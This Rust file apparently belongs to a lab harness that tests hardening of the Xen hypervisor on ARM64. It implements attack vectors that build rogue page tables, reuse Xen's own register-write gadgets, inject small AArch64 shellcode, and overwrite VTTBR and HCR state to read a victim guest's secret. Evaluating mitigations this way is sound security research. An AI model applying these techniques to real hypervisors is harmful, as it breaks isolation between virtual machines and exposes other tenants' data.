//! V09 to V12: other tables for Xen, other tables for a guest, or none.
//!
//! With the program counter at will (L3) any instruction of Xen's text can be
//! used; a level `seal` is to remove those used here. With writes alone (L2)
//! the registers can only be changed by what Xen loads into them.

use std::thread;
use std::time::Duration;

use xenctrl_ffi::State;

use super::stage2::{dom0_reads, dom0_reads_after, foothold};
use super::{Attacker, Facts, Level, Outcome, Vector, facts};
use crate::Failure;
use crate::lab::{Lab, Phase};
use crate::memory::Page;
use crate::primitive::Stop;
use crate::tables;

/// Slots of the root table that Xen leaves alone: for code at its machine
/// address, and for all RAM as data.
const CODE_SLOT: u64 = 0;
const DATA_SLOT: u64 = 41;
/// SCTLR_EL2.M
const MMU: u64 = 1;
/// HCR_EL2.VM
const VM: u64 = 1;
/// Long enough for dom0's vCPU to be switched away and back.
const SWITCH: Duration = Duration::from_millis(60);

/// How often what depends on where a vCPU runs is tried.
const ATTEMPTS: u32 = 5;

pub fn all() -> Vec<Box<dyn Vector>> {
    vec![
        Box::new(Ttbr::default()),
        Box::new(Sctlr::default()),
        Box::new(VttbrData::default()),
        Box::new(VttbrCode::default()),
        Box::new(HcrData),
        Box::new(HcrCode),
    ]
}

/// A root table of the attacker's: Xen's own, and two further slots.
struct Root {
    page: Page,
    // The hardware reads it.
    _code: Page,
}

impl Root {
    /// Copies the entries of Xen's root, which can be read only before.
    fn build(lab: &mut Lab) -> Result<Self, Failure> {
        let page = Page::new()?;
        let root = lab.symbols.symbol("xen_pgtable")?;
        for index in 0..512 {
            page.put(index, lab.read(root + 8 * index as u64)?);
        }
        let code = Page::new()?;
        for gib in 0..512 {
            code.put(gib as usize, tables::stage1_gib_code(gib << 30));
        }
        page.put(CODE_SLOT as usize, tables::table(code.address));
        page.put(DATA_SLOT as usize, tables::table(lab.all_ram.address));
        page.publish();
        code.publish();
        Ok(Self { page, _code: code })
    }

    /// Puts a root into TTBR0_EL2 of a CPU with Xen's own instruction. Returns
    /// SCTLR_EL2, which the code behind it reads.
    fn load(lab: &Lab, cpu: u32, root: u64) -> Result<u64, Stop> {
        let Some(code) = lab.symbols.clean("msr-ttbr0_el2") else {
            return Err(Stop::Refused(i64::from(libc::ENOENT)));
        };
        let registers = [(code.register(), root)];
        let left = lab.primitive.jump(cpu, code.address, &registers)?;
        let sctlr = code.reads_sctlr().and_then(|index| left.get(index));
        Ok(sctlr.unwrap_or_default())
    }
}

/// The CPU on which the tables are changed: not the one that makes hypercalls.
fn cpu(lab: &Lab) -> u32 {
    lab.cpus - 1
}

/// Reads a word of RAM through tables of the attacker's: where V09 is open,
/// everything is.
pub fn read_through_own_table(lab: &mut Lab, maddr: u64) -> Result<Result<u64, Stop>, Failure> {
    let Some(root) = lab.saved_root.take() else {
        return Err(Failure(
            "the root table was not copied before the blow".into(),
        ));
    };
    let cpu = cpu(lab);
    let word = Root::load(lab, cpu, root.address)
        .and_then(|_| lab.primitive.load(cpu, (DATA_SLOT << 39) + maddr));
    let back = Root::load(lab, cpu, lab.root);
    lab.saved_root = Some(root);
    back?;
    lab.flush_el2()?;
    Ok(word)
}

#[derive(Default)]
struct Ttbr(Option<Root>);

impl Vector for Ttbr {
    fn facts(&self) -> Facts {
        facts(
            "V09",
            "jump to Xen's own `msr ttbr0_el2` with a root table in dom0's memory, and read the secret through it",
            Attacker::L3,
            Level::Seal,
        )
    }

    fn attempt(&mut self, lab: &mut Lab) -> Result<Outcome, Failure> {
        if self.0.is_none() {
            self.0 = Some(Root::build(lab)?);
            lab.saved_root = Some(Root::build(lab)?.page);
        }
        let Some(root) = &self.0 else {
            return Ok(Outcome::NotAttempted("no table".into()));
        };
        let cpu = cpu(lab);
        if let Err(stop) = Root::load(lab, cpu, root.page.address) {
            return Ok(Outcome::Failed(stop.to_string()));
        }
        let va = (DATA_SLOT << 39) + lab.victim().secret.maddr;
        let outcome = lab.secret_on(cpu, va, "attacker's table");
        Root::load(lab, cpu, lab.root)?;
        lab.flush_el2()?;
        Ok(outcome)
    }
}

/// `msr sctlr_el2` with the MMU off, at an address that is its own machine
/// address by the table of V09; what runs then is the attacker's.
#[derive(Default)]
struct Sctlr(Option<(Root, Page)>);

impl Sctlr {
    /// Reads, switches the MMU on again, and goes back.
    const CODE: [u32; 5] = [
        0xf940_0041, // ldr x1, [x2]
        0xd51c_1003, // msr sctlr_el2, x3
        0xd503_3fdf, // isb
        0xaa01_03e0, // mov x0, x1
        0xd61f_0080, // br x4
    ];
}

impl Vector for Sctlr {
    fn facts(&self) -> Facts {
        facts(
            "V10",
            "switch the MMU off with Xen's own `msr sctlr_el2` (over the table of V09), and run code in dom0's memory that reads the secret",
            Attacker::L3,
            Level::Seal,
        )
    }

    fn attempt(&mut self, lab: &mut Lab) -> Result<Outcome, Failure> {
        if self.0.is_none() {
            let code = Page::new()?;
            for (index, pair) in Self::CODE.chunks(2).enumerate() {
                let second = pair.get(1).copied().unwrap_or(0);
                code.put(index, u64::from(pair[0]) | u64::from(second) << 32);
            }
            code.publish();
            self.0 = Some((Root::build(lab)?, code));
        }
        let (Some((root, code)), Some(msr)) = (&self.0, lab.symbols.clean("msr-sctlr_el2")) else {
            return Ok(Outcome::NotAttempted(
                "no such instruction before a return".into(),
            ));
        };
        let back = lab.symbols.symbol("vmf_attack_returned")?;
        let cpu = cpu(lab);
        let sctlr = match Root::load(lab, cpu, root.page.address) {
            Ok(sctlr) => sctlr,
            Err(stop) => return Ok(Outcome::Failed(stop.to_string())),
        };
        if sctlr & MMU == 0 {
            Root::load(lab, cpu, lab.root)?;
            return Ok(Outcome::NotAttempted("SCTLR_EL2 is not known".into()));
        }
        let secret = lab.victim().secret;
        let registers = [
            (msr.register(), sctlr & !MMU),
            (2, secret.maddr),
            (3, sctlr),
            (4, back),
            (30, code.address),
        ];
        let at = msr.address.wrapping_add(lab.image_offset);
        let outcome = match lab.primitive.jump(cpu, at, &registers) {
            Ok(left) if left.x0() == secret.word => Outcome::Success(format!(
                "CPU {cpu} reads the secret {:#018x} at {:#x} with the MMU off",
                secret.word, secret.maddr
            )),
            Ok(left) => Outcome::Failed(format!("it reads {:#x}", left.x0())),
            Err(stop) => Outcome::Failed(stop.to_string()),
        };
        Root::load(lab, cpu, lab.root)?;
        lab.flush_el2()?;
        Ok(outcome)
    }
}

/// A stage 2 for dom0 that has the victim's memory as well.
struct Stage2 {
    /// The root, a copy of dom0's own.
    root: Page,
    _below: Page,
    /// Where dom0 finds the secret.
    ipa: u64,
}

impl Stage2 {
    fn build(lab: &mut Lab) -> Result<Self, Failure> {
        let own = lab.own();
        let root = tables::copy(lab, own.root)?;
        lab.give_back()?;
        let (ipa, index, entry, below) = foothold(lab)?;
        root.put(index, entry);
        root.publish();
        Ok(Self {
            root,
            _below: below,
            ipa,
        })
    }

    /// VTTBR_EL2 with this root and dom0's own VMID.
    fn vttbr(&self, lab: &Lab) -> u64 {
        lab.own().vttbr & (0xffff << 48) | self.root.address
    }
}

/// `p2m->vttbr`, which each switch to one of dom0's vCPUs loads.
#[derive(Default)]
struct VttbrData(Option<Stage2>);

impl Vector for VttbrData {
    fn facts(&self) -> Facts {
        facts(
            "V11",
            "write what a context switch loads into VTTBR_EL2 of the accomplice (after the lock: the frozen page that it must agree with)",
            Attacker::L2,
            Level::Lock,
        )
    }

    fn attempt(&mut self, lab: &mut Lab) -> Result<Outcome, Failure> {
        if self.0.is_none() && lab.phase == Phase::Before {
            self.0 = Some(Stage2::build(lab)?);
        }
        let Some(stage2) = &self.0 else {
            return Ok(Outcome::NotAttempted("no table".into()));
        };
        let own = lab.own();
        if lab.phase == Phase::After {
            let vmid = own.vttbr >> 48;
            let at = lab.symbols.symbol("vmf_frozen")?
                + lab.symbols.member("vmf_frozen", "vttbr")?
                + 8 * vmid;
            if let Err(stop) = lab.primitive.store(0, at, stage2.vttbr(lab)) {
                return Ok(Outcome::Failed(format!(
                    "the frozen page at {at:#x}: {stop}"
                )));
            }
        }
        let at = own.structure + lab.symbols.member("domain", "arch.p2m.vttbr")?;
        lab.primitive.store(0, at, stage2.vttbr(lab))?;
        thread::sleep(SWITCH);
        let outcome = dom0_reads(lab, stage2.ipa, "other stage 2")?;
        lab.primitive.store(0, at, own.vttbr)?;
        thread::sleep(SWITCH);
        lab.flush_guests()?;
        Ok(outcome)
    }
}

/// VTTBR_EL2 itself, on the CPU that returns to dom0 from this very call.
#[derive(Default)]
struct VttbrCode(Option<Stage2>);

impl Vector for VttbrCode {
    fn facts(&self) -> Facts {
        facts(
            "V11",
            "jump to Xen's own `msr vttbr_el2` on the CPU that runs the accomplice",
            Attacker::L3,
            Level::Seal,
        )
    }

    fn attempt(&mut self, lab: &mut Lab) -> Result<Outcome, Failure> {
        if self.0.is_none() {
            self.0 = Some(Stage2::build(lab)?);
        }
        let (Some(stage2), Some(msr)) = (&self.0, lab.symbols.clean("msr-vttbr_el2")) else {
            return Ok(Outcome::NotAttempted(
                "no such instruction before a return".into(),
            ));
        };
        let value = stage2.vttbr(lab);
        let own = lab.own().vttbr;
        let outcome = on_this_cpu(lab, &msr, (value, own), stage2.ipa, "other VTTBR_EL2")?;
        thread::sleep(SWITCH);
        lab.flush_guests()?;
        Ok(outcome)
    }
}

/// Writes a register of the CPU that dom0's first vCPU runs on, which this
/// process is bound to, and has dom0 read right after. Puts the second value
/// back: on a locked machine Xen would notice the first at the next interrupt
/// that it takes itself.
fn on_this_cpu(
    lab: &Lab,
    msr: &crate::symbols::Code,
    (value, back): (u64, u64),
    ipa: u64,
    what: &str,
) -> Result<Outcome, Failure> {
    // The instruction outside the gates is there until the seal, so this is
    // open; but the next interrupt that Xen takes itself finds the value, and
    // ends the machine, with all that is still to be tried on it.
    let state = lab.machine.status().map(|status| status.state);
    if state.is_ok_and(|state| state == State::Locked) {
        return Ok(Outcome::NotAttempted(
            "on a locked machine this ends in a panic of Xen sooner or later".into(),
        ));
    }
    let mut each = Vec::new();
    let processor = lab.own().vcpu + lab.symbols.member("vcpu", "processor")?;
    // A vCPU may move between the question and the jump: then again.
    for _ in 0..ATTEMPTS {
        let outcome = dom0_reads_after(lab, ipa, what, || {
            let cpu = lab.read(processor)? as u32;
            let registers = [(msr.register(), value)];
            lab.primitive.jump(cpu, msr.address, &registers).map(drop)
        })?;
        let cpu = lab.read(processor)? as u32;
        // Where the instruction is gone, so is what it has done.
        let _ = lab
            .primitive
            .jump(cpu, msr.address, &[(msr.register(), back)]);
        let done = matches!(outcome, Outcome::Success(_));
        each.push(outcome);
        if done {
            break;
        }
    }
    Ok(Outcome::any(each))
}

/// `v->arch.hcr_el2`, which each switch to the vCPU loads: without HCR_EL2.VM
/// dom0's addresses are the machine's.
struct HcrData;

impl Vector for HcrData {
    fn facts(&self) -> Facts {
        facts(
            "V12",
            "write what a context switch loads into HCR_EL2 of the accomplice (after the lock: the frozen mask that it must pass)",
            Attacker::L2,
            Level::Lock,
        )
    }

    fn attempt(&mut self, lab: &mut Lab) -> Result<Outcome, Failure> {
        if lab.phase == Phase::After {
            let at =
                lab.symbols.symbol("vmf_frozen")? + lab.symbols.member("vmf_frozen", "hcr_mask")?;
            if let Err(stop) = lab.primitive.store(0, at, 0) {
                return Ok(Outcome::Failed(format!(
                    "the frozen page at {at:#x}: {stop}"
                )));
            }
        }
        let at = lab.own().vcpu + lab.symbols.member("vcpu", "arch.hcr_el2")?;
        let hcr = lab.read(at)?;
        lab.primitive.store(0, at, hcr & !VM)?;
        thread::sleep(SWITCH);
        let outcome = dom0_reads(lab, lab.victim().secret.maddr, "no stage 2")?;
        lab.primitive.store(0, at, hcr)?;
        thread::sleep(SWITCH);
        lab.flush_guests()?;
        Ok(outcome)
    }
}

/// HCR_EL2 itself.
struct HcrCode;

impl Vector for HcrCode {
    fn facts(&self) -> Facts {
        facts(
            "V12",
            "jump to Xen's own `msr hcr_el2` on the CPU that runs the accomplice",
            Attacker::L3,
            Level::Seal,
        )
    }

    fn attempt(&mut self, lab: &mut Lab) -> Result<Outcome, Failure> {
        let Some(msr) = lab.symbols.clean("msr-hcr_el2") else {
            return Ok(Outcome::NotAttempted(
                "no such instruction before a return".into(),
            ));
        };
        let at = lab.own().vcpu + lab.symbols.member("vcpu", "arch.hcr_el2")?;
        let hcr = lab.read(at)?;
        let ipa = lab.victim().secret.maddr;
        let outcome = on_this_cpu(lab, &msr, (hcr & !VM, hcr), ipa, "no stage 2")?;
        thread::sleep(SWITCH);
        lab.flush_guests()?;
        Ok(outcome)
    }
}
